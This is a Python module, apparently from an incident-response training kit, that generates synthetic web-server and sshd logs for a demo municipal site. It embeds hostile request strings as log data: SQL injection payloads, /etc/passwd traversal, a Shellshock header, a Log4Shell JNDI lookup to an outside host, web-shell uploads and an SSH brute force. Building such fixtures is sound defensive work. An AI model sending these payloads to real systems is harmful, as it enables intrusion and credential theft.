"""Web server and sshd logs of the demo city: ordinary traffic with attacks mixed in."""

from __future__ import annotations

import gzip
import io
import random
from collections.abc import Callable
from datetime import datetime, timedelta, timezone
from pathlib import Path

from csirt_kit.demo import content as c
from csirt_kit.demo.sites import DemoSite

WIB = timezone(timedelta(hours=7))
# In the demo feed: uploads and drives the web shell. An RFC 9637 documentation address
# (3fff::/20): the IPv4 documentation ranges sit on the RFC 5735 warninglist, so an
# indicator there would (rightly) be kept out of log matching.
KNOWN_BAD_IP = "3fff:0:0:bad::66"
SQLMAP_IP = "192.0.2.145"
NIKTO_IP = "198.51.100.200"
BRUTE_IP = "192.0.2.201"
ADMIN_IP = "10.10.5.20"
_MONTHS = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")
GOOGLEBOT_UA = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
SQLMAP_UA = "sqlmap/1.7.11#stable (https://sqlmap.org)"
NIKTO_UA = "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:007412)"
_BROWSERS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/130.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Linux; Android 13; SM-A145F) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/129.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.6 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:131.0) Gecko/20100101 Firefox/131.0",
)
_PATHS = ("/", "/profil/", "/berita/", "/kontak/", "/assets/css/style.css", "/assets/js/app.js",
          "/favicon.ico", "/berita/?page=2", "/pengumuman/", "/layanan/")
Line = tuple[datetime, str]


def stamp(when: datetime) -> str:
    """Apache's %t: [16/Nov/2026:10:15:32 +0700] (English month names whatever the locale)."""
    return f"[{when.day:02d}/{_MONTHS[when.month - 1]}/{when:%Y:%H:%M:%S %z}]"


def access_line(ip: str, when: datetime, request: str, status: int, size: int, ua: str,
                referer: str = "-") -> Line:
    """One combined-format line."""
    return when, f'{ip} - - {stamp(when)} "{request}" {status} {size} "{referer}" "{ua}"'


def _normal(rng: random.Random, site: DemoSite, start: datetime, end: datetime, count: int) -> list[Line]:
    span = int((end - start).total_seconds())
    out = []
    for _ in range(count):
        when = start + timedelta(seconds=rng.randrange(span))
        ip = f"100.{64 + rng.randrange(32)}.{rng.randrange(256)}.{1 + rng.randrange(254)}"
        path = rng.choice(_PATHS)
        status = 404 if path == "/favicon.ico" else rng.choice((200, 200, 200, 304))
        referer = rng.choice(("-", "-", site.url, "https://www.google.com/"))
        out.append(access_line(ip, when, f"GET {path} HTTP/1.1", status,
                               0 if status == 304 else 900 + rng.randrange(9000),
                               rng.choice(_BROWSERS), referer))
    return out


def _burst(rng: random.Random, start: datetime, minutes: int, items: list[tuple[str, int, str]],
           ip: str) -> list[Line]:
    """Requests from one client over a few minutes, in order."""
    out = []
    when = start
    for request, status, ua in items:
        when += timedelta(seconds=1 + rng.randrange(max(1, minutes * 60 // max(1, len(items)))))
        out.append(access_line(ip, when, request, status, 200 + rng.randrange(4000), ua))
    return out


def _webshell(rng: random.Random, site: DemoSite, start: datetime) -> list[Line]:
    browser = _BROWSERS[0]
    exploit = "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php"
    items = [(f"POST {exploit} HTTP/1.1", 200, browser),
             (f"GET /{c.SHELL_PATH} HTTP/1.1", 200, browser)]
    items += [(f"POST /{c.SHELL_PATH} HTTP/1.1", 200, browser) for _ in range(12)]
    return _burst(rng, start, 90, items, KNOWN_BAD_IP)


def _recon(rng: random.Random, site: DemoSite, start: datetime) -> list[Line]:
    ua = _BROWSERS[3]
    items = [("GET /wp-login.php HTTP/1.1", 200, ua), ("POST /xmlrpc.php HTTP/1.1", 405, ua),
             ("GET /.env HTTP/1.1", 404, ua), ("GET /wp-config.php.bak HTTP/1.1", 404, ua)]
    return _burst(rng, start, 5, items, KNOWN_BAD_IP)


def _sqli(rng: random.Random, site: DemoSite, start: datetime) -> list[Line]:
    payloads = ("1%27", "1%20AND%201%3D1", "1%27%20AND%20%271%27%3D%271",
                "1%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CNULL--%20-",
                "1%27%20UNION%20SELECT%20username%2Cpassword%20FROM%20users--%20-",
                "1%20AND%20SLEEP(5)", "1%3BSELECT%20PG_SLEEP(5)--",
                "-1%27%20OR%201%3D1%23", "1%20AND%20EXTRACTVALUE(1%2CCONCAT(0x7e%2Cversion()))")
    items = [(f"GET /berita.php?id={p} HTTP/1.1", rng.choice((200, 500)), SQLMAP_UA) for p in payloads]
    return _burst(rng, start, 10, items * 2, SQLMAP_IP)


def _traversal(rng: random.Random, site: DemoSite, start: datetime) -> list[Line]:
    ua = _BROWSERS[0]
    items = [("GET /download.php?file=../../../../etc/passwd HTTP/1.1", 200, ua),
             ("GET /download.php?file=..%2f..%2f..%2f..%2fetc%2fpasswd HTTP/1.1", 200, ua),
             ("GET /index.php?page=php://filter/convert.base64-encode/resource=config HTTP/1.1", 200, ua),
             ("GET /cgi-bin/status HTTP/1.1", 404, '() { :; }; echo; /bin/bash -c "cat /etc/passwd"'),
             ("GET / HTTP/1.1", 200, "${jndi:ldap://192.0.2.99:1389/Exploit}")]
    return _burst(rng, start, 3, items, SQLMAP_IP)


def _nikto(rng: random.Random, site: DemoSite, start: datetime) -> list[Line]:
    paths = ("/admin/", "/phpmyadmin/", "/backup.zip", "/.git/HEAD", "/server-status",
             "/test.php", "/info.php", "/config.php~", "/wp-admin/install.php", "/shell.php")
    items = [(f"GET {p} HTTP/1.1", 404, NIKTO_UA) for p in paths]
    return _burst(rng, start, 2, items * 3, NIKTO_IP)


def _googlebot(rng: random.Random, site: DemoSite, start: datetime) -> list[Line]:
    items = [("GET / HTTP/1.1", 200, GOOGLEBOT_UA), ("GET /robots.txt HTTP/1.1", 200, GOOGLEBOT_UA),
             ("GET /berita/ HTTP/1.1", 200, GOOGLEBOT_UA)]
    return _burst(rng, start, 600, items * 4, "66.249.66.1")


ATTACKS: dict[str, Callable[[random.Random, DemoSite, datetime], list[Line]]] = {
    "webshell": _webshell, "recon": _recon, "sqli": _sqli, "traversal": _traversal,
    "nikto": _nikto, "googlebot": _googlebot,
}


def write_access_logs(folder: Path, site: DemoSite, attacks: tuple[str, ...], seed: int,
                      end: datetime, rotations: int = 1) -> list[Path]:
    """access.log (+ access.log.1, access.log.2.gz, ...) for one site; attacks in the newest."""
    rng = random.Random(f"{seed}:logs:{site.asset_id}")
    folder.mkdir(parents=True, exist_ok=True)
    written = []
    for index in range(rotations):
        stop = end - timedelta(days=3 * index)
        begin = stop - timedelta(days=3)
        lines = _normal(rng, site, begin, stop, 400)
        if index == 0:
            for offset, name in enumerate(attacks):
                lines += ATTACKS[name](rng, site, begin + timedelta(hours=5 + 9 * offset))
        text = "".join(line + "\n" for _, line in sorted(lines))
        name = "access.log" + (f".{index}" if index else "")
        if index >= 2:
            path = folder / f"{name}.gz"
            path.write_bytes(_gzip(text.encode()))
        else:
            path = folder / name
            path.write_text(text, encoding="utf-8")
        written.append(path)
    return written


def _gzip(data: bytes) -> bytes:
    buffer = io.BytesIO()
    # mtime=0 and no file name: the same input always gives the same bytes.
    with gzip.GzipFile(fileobj=buffer, mode="wb", mtime=0, filename="") as handle:
        handle.write(data)
    return buffer.getvalue()


def write_auth_log(path: Path, host: str, seed: int, end: datetime) -> Path:
    """An sshd auth.log: routine admin logins and a password brute force."""
    rng = random.Random(f"{seed}:auth:{host}")
    start = end - timedelta(days=3)
    entries: list[tuple[datetime, str]] = []
    for day in range(3):
        when = start + timedelta(days=day, hours=8, minutes=rng.randrange(50))
        pid = 20000 + rng.randrange(9000)
        entries.append((when, f"sshd[{pid}]: Accepted publickey for deploy from {ADMIN_IP} port "
                              f"{40000 + rng.randrange(20000)} ssh2: ED25519 SHA256:kotademoDeployKey"))
        entries.append((when, f"sshd[{pid}]: pam_unix(sshd:session): session opened for user "
                              "deploy(uid=1001) by (uid=0)"))
    when = start + timedelta(days=1, hours=2, minutes=13)
    users = ("root", "admin", "ubuntu", "test", "oracle", "postgres", "user", "ftpuser", "git",
             "operator")
    for i in range(80):
        when += timedelta(seconds=2 + rng.randrange(6))
        user = users[i % len(users)]
        pid = 30000 + i
        port = 50000 + rng.randrange(15000)
        if user != "root":
            entries.append((when, f"sshd[{pid}]: Invalid user {user} from {BRUTE_IP} port {port}"))
            entries.append((when, f"sshd[{pid}]: Failed password for invalid user {user} from "
                                  f"{BRUTE_IP} port {port} ssh2"))
        else:
            entries.append((when, f"sshd[{pid}]: Failed password for root from {BRUTE_IP} "
                                  f"port {port} ssh2"))
    entries.append((when + timedelta(seconds=3), f"sshd[{30000 + 80}]: Disconnecting authenticating "
                    f"user root {BRUTE_IP} port 51111: Too many authentication failures [preauth]"))
    lines = [f"{_MONTHS[w.month - 1]} {w.day:2d} {w:%H:%M:%S} {host} {msg}\n"
             for w, msg in sorted(entries, key=lambda e: e[0])]
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("".join(lines), encoding="utf-8")
    return path
